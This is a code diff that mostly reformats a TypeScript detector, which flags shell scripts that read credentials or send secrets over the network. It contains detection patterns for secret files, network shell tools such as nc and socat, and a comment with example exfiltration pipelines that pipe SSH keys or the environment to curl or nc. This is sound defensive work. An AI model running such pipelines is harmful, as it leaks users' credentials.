@@ -11,8 +11,51 @@ import type { RuleContext } from "./context.ts";
 import type { InvocationOf } from "./remote.ts";
 
 const READERS = new Set([
-  "cat", "less", "more", "head", "tail", "bat", "batcat", "nl", "tac", "strings", "xxd", "od", "hexdump", "base64", "base32", "grep", "egrep", "fgrep",
-  "rg", "ag", "ack", "awk", "gawk", "sed", "cut", "sort", "uniq", "cp", "tar", "zip", "7z", "gzip", "bzip2", "xz", "zstd", "openssl", "jq", "yq", "dd", "scp", "rsync", "install", "split", "paste", "column",
+  "cat",
+  "less",
+  "more",
+  "head",
+  "tail",
+  "bat",
+  "batcat",
+  "nl",
+  "tac",
+  "strings",
+  "xxd",
+  "od",
+  "hexdump",
+  "base64",
+  "base32",
+  "grep",
+  "egrep",
+  "fgrep",
+  "rg",
+  "ag",
+  "ack",
+  "awk",
+  "gawk",
+  "sed",
+  "cut",
+  "sort",
+  "uniq",
+  "cp",
+  "tar",
+  "zip",
+  "7z",
+  "gzip",
+  "bzip2",
+  "xz",
+  "zstd",
+  "openssl",
+  "jq",
+  "yq",
+  "dd",
+  "scp",
+  "rsync",
+  "install",
+  "split",
+  "paste",
+  "column",
 ]);
 const COPIERS = new Set(["cp", "scp", "rsync", "install"]);
 const ARCHIVERS = new Set(["tar", "zip", "7z", "gzip", "bzip2", "xz", "zstd"]);
@@ -22,7 +65,20 @@ const SEARCHERS = new Set(["grep", "egrep", "rg", "ag", "ack"]);
 const SECRET_VARIABLE = /\$\{?[A-Za-z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)[A-Za-z0-9_]*\}?/i;
 const SEARCH_FOR_SECRETS = /pass(?:word|wd)?|secret|token|api.?key|private.?key|credential|BEGIN (?:RSA|OPENSSH|EC|PGP)/i;
 const SENSITIVE_FILES = /^\/etc\/(?:passwd|group|hosts)$|^\/var\/log\/|^\/proc\/[^/]+\/environ$/;
-const CURL_UPLOAD_FLAGS = new Set(["-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "-F", "--form", "--form-string", "-T", "--upload-file", "--json"]);
+const CURL_UPLOAD_FLAGS = new Set([
+  "-d",
+  "--data",
+  "--data-binary",
+  "--data-raw",
+  "--data-urlencode",
+  "--data-ascii",
+  "-F",
+  "--form",
+  "--form-string",
+  "-T",
+  "--upload-file",
+  "--json",
+]);
 
 /** Paths a reader reads (copy commands: only sources; dd: `if=`; openssl: `-in`). */
 function readPaths(invocation: Invocation): Word[] {
@@ -37,18 +93,25 @@ function readPaths(invocation: Invocation): Word[] {
 /** What sensitive data this invocation reads, for reasons; undefined when none. */
 function sensitiveRead(invocation: Invocation): string | undefined {
   const { name, args } = invocation;
-  if (ENV_DUMPS.has(name) && positionals(args).length === 0 && !invocation.command.words.slice(1).some((word) => /=/.test(word.value))) return "the environment";
+  if (ENV_DUMPS.has(name) && positionals(args).length === 0 && !invocation.command.words.slice(1).some((word) => /=/.test(word.value)))
+    return "the environment";
   if (name === "gpg" && args.some((arg) => /^--export-secret-(?:sub)?keys$/.test(arg.value))) return "GPG secret keys";
   if (name === "security" && args.some((arg) => /^find-(?:generic|internet)-password$/.test(arg.value))) return "a keychain password";
-  if (name === "kubectl" && args.some((arg) => /^secrets?$/.test(arg.value)) && args.some((arg) => arg.value === "get")) return "Kubernetes secrets";
+  if (name === "kubectl" && args.some((arg) => /^secrets?$/.test(arg.value)) && args.some((arg) => arg.value === "get"))
+    return "Kubernetes secrets";
   if (!READERS.has(name)) return undefined;
   const cwd = invocation.command.cwd;
   for (const path of readPaths(invocation)) {
     if (path.dynamic) continue;
     if (isCredentialPath(path.value, cwd)) return normalizePath(path.value, cwd);
-    if ((ARCHIVERS.has(name) || COPIERS.has(name)) && (isCredentialDir(path.value, cwd) || normalizePath(path.value, cwd) === "~")) return `${normalizePath(path.value, cwd)}/`;
+    if ((ARCHIVERS.has(name) || COPIERS.has(name)) && (isCredentialDir(path.value, cwd) || normalizePath(path.value, cwd) === "~"))
+      return `${normalizePath(path.value, cwd)}/`;
   }
-  if (name === "cat" && invocation.command.redirects.some((redirect) => redirect.op === "<" && redirect.target && isCredentialPath(redirect.target.value, cwd))) return "a credential file";
+  if (
+    name === "cat" &&
+    invocation.command.redirects.some((redirect) => redirect.op === "<" && redirect.target && isCredentialPath(redirect.target.value, cwd))
+  )
+    return "a credential file";
   return undefined;
 }
 
@@ -66,11 +129,16 @@ function uploads(invocation: Invocation): string[] {
       if (at) files.push(at[1]!);
     }
   }
-  if (name === "wget") for (const arg of args) { const file = /^--(?:post|body)-file=(.+)$/.exec(arg.value); if (file) files.push(file[1]!); }
+  if (name === "wget")
+    for (const arg of args) {
+      const file = /^--(?:post|body)-file=(.+)$/.exec(arg.value);
+      if (file) files.push(file[1]!);
+    }
   if (name === "scp" || name === "rsync" || name === "sftp") {
     const items = positionals(args);
     const destination = items.at(-1);
-    if (destination && hostOf(destination.value) && !isLocalHost(hostOf(destination.value)!)) files.push(...items.slice(0, -1).map((item) => item.value));
+    if (destination && hostOf(destination.value) && !isLocalHost(hostOf(destination.value)!))
+      files.push(...items.slice(0, -1).map((item) => item.value));
   }
   for (const redirect of invocation.command.redirects) if (redirect.op === "<" && redirect.target) files.push(redirect.target.value);
   return files;
@@ -88,7 +156,17 @@ function destination(invocation: Invocation): string | undefined {
 
 function readsStdin(invocation: Invocation): boolean {
   const { name } = invocation;
-  if (name === "nc" || name === "ncat" || name === "netcat" || name === "telnet" || name === "socat" || name === "mail" || name === "mailx" || name === "sendmail") return true;
+  if (
+    name === "nc" ||
+    name === "ncat" ||
+    name === "netcat" ||
+    name === "telnet" ||
+    name === "socat" ||
+    name === "mail" ||
+    name === "mailx" ||
+    name === "sendmail"
+  )
+    return true;
   if (name === "ssh") return positionals(invocation.args).length >= 1;
   return uploads(invocation).includes("-");
 }
@@ -96,7 +174,8 @@ function readsStdin(invocation: Invocation): boolean {
 function exfilHit(ctx: RuleContext, what: string, sender: Invocation, segment: string): void {
   const host = destination(sender);
   if (host && isLocalHost(host)) ctx.hit("sensitive_upload", "review", `${what} is sent to ${host} (${sender.name})`, segment);
-  else ctx.hit("credential_exfiltration", "block", `${what} is sent over the network by ${sender.name}${host ? ` to ${host}` : ""}`, segment);
+  else
+    ctx.hit("credential_exfiltration", "block", `${what} is sent over the network by ${sender.name}${host ? ` to ${host}` : ""}`, segment);
 }
 
 /** Credential reads and exfiltration across a script. */
@@ -105,7 +184,8 @@ export function exfilRules(script: Script, invocationOf: InvocationOf, ctx: Rule
     const invocation = invocationOf(command);
     if (!invocation) continue;
     const read = sensitiveRead(invocation);
-    if (read && read !== "the environment") ctx.hit("credential_read", "review", `reads ${read} (${display([invocation.nameWord, ...invocation.args])})`, command.text);
+    if (read && read !== "the environment")
+      ctx.hit("credential_read", "review", `reads ${read} (${display([invocation.nameWord, ...invocation.args])})`, command.text);
     secretSearch(invocation, ctx);
     if (SENDERS.has(invocation.name) || DNS_TOOLS.has(invocation.name)) senderRules(invocation, command, invocationOf, ctx);
   }
@@ -116,7 +196,8 @@ function senderRules(sender: Invocation, command: SimpleCommand, invocationOf: I
   for (const file of uploads(sender)) {
     if (file === "-") continue;
     if (isCredentialPath(file, cwd) || isCredentialDir(file, cwd)) exfilHit(ctx, normalizePath(file, cwd), sender, command.text);
-    else if (SENSITIVE_FILES.test(normalizePath(file, cwd))) ctx.hit("sensitive_upload", "review", `${normalizePath(file, cwd)} is uploaded by ${sender.name}`, command.text);
+    else if (SENSITIVE_FILES.test(normalizePath(file, cwd)))
+      ctx.hit("sensitive_upload", "review", `${normalizePath(file, cwd)} is uploaded by ${sender.name}`, command.text);
   }
   // Piped in: `cat ~/.ssh/id_rsa | curl -d @- …`, `env | nc host 9000`, `tar czf - ~/.ssh | nc …`.
   const { pipeline, stage } = command;
@@ -125,7 +206,11 @@ function senderRules(sender: Invocation, command: SimpleCommand, invocationOf: I
       const source = invocationOf(earlier);
       const what = source ? sensitiveRead(source) : undefined;
       if (what) exfilHit(ctx, what, sender, `${earlier.text} | ... | ${command.text}`);
-      else if (source && (ARCHIVERS.has(source.name) || source.name === "tar") && readPaths(source).some((path) => deleteImpact(path.value, cwd) === "critical")) {
+      else if (
+        source &&
+        (ARCHIVERS.has(source.name) || source.name === "tar") &&
+        readPaths(source).some((path) => deleteImpact(path.value, cwd) === "critical")
+      ) {
         exfilHit(ctx, `an archive of ${display(readPaths(source))}`, sender, command.text);
       }
     }
